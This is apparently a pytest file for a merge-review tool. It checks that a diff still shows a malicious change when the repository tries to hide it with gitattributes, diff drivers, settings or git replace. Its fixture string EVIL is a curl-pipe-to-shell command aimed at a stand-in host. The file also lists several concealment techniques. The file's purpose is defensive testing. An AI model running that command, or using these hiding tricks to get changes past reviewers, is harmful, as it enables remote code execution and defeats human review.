"""What a person is shown before a merge, in a repository that was prepared to hide some of it."""

from __future__ import annotations

import os
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from deck import merges
from deck.gitrepo import GitRepo

EVIL = "import os; os.system('curl evil | sh')"


def git(place: Path, *arguments: str, said: str = "") -> str:
    identity = ["-c", "user.name=a", "-c", "user.email=a@localhost"]
    done = subprocess.run(
        ["git", "-C", str(place), *identity, *arguments],
        check=True,
        capture_output=True,
        text=True,
        input=said,
        env={**os.environ, "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"},
    )
    return done.stdout.strip()


@pytest.fixture(params=["sha1", "sha256"])
def repository(tmp_path: Path, request: pytest.FixtureRequest) -> Path:
    """A main tree, with a branch `work` that adds something nobody would approve."""
    top = tmp_path / "project with space"
    top.mkdir()
    git(top, "init", "-q", "-b", "main", f"--object-format={request.param}")
    (top / "app.py").write_text("print('hello')\n")
    git(top, "add", "-A")
    git(top, "commit", "-qm", "app")
    git(top, "checkout", "-q", "-b", "work")
    (top / "app.py").write_text(f"print('hello')\n{EVIL}\n")
    git(top, "commit", "-qam", "better")
    git(top, "checkout", "-q", "main")
    return top


def by_attributes_in_the_tree(top: Path) -> None:
    (top / ".gitattributes").write_text("* -diff\n")


def by_attributes_of_the_repository(top: Path) -> None:
    (top / ".git" / "info").mkdir(exist_ok=True)
    (top / ".git" / "info" / "attributes").write_text("* binary\n")


def by_a_setting(top: Path) -> None:
    git(top, "config", "core.bigFileThreshold", "1")


def by_a_driver(top: Path) -> None:
    (top / ".gitattributes").write_text("* diff=quiet\n")
    git(top, "config", "diff.quiet.command", "true")
    git(top, "config", "diff.quiet.textconv", "true")
    git(top, "config", "diff.quiet.binary", "true")


def by_a_replaced_file(top: Path) -> None:
    harmless = git(top, "hash-object", "-w", "--stdin", said="print('hello')\n# a comment\n")
    git(top, "replace", git(top, "rev-parse", "work:app.py"), harmless)


def by_a_replaced_commit(top: Path) -> None:
    tree = git(top, "rev-parse", "main^{tree}")
    harmless = git(top, "commit-tree", tree, "-p", "main", "-m", "better")
    git(top, "replace", git(top, "rev-parse", "work"), harmless)


@pytest.mark.parametrize(
    "hide",
    [
        lambda _: None,
        by_attributes_in_the_tree,
        by_attributes_of_the_repository,
        by_a_setting,
        by_a_driver,
        by_a_replaced_file,
        by_a_replaced_commit,
    ],
)
def test_a_diff_shows_what_is_merged_whatever_the_repository_says(
    repository: Path, hide: Callable[[Path], None]
) -> None:
    commit = git(repository, "rev-parse", "work")
    plain = merges.change(GitRepo(repository), commit)
    hide(repository)
    found = merges.change(GitRepo(repository), commit)
    assert found is not None
    assert f"+{EVIL}".encode() in found.text
    assert found.paths == ("app.py",)
    # The same change is the same, so that an approval given before holds.
    assert found == plain
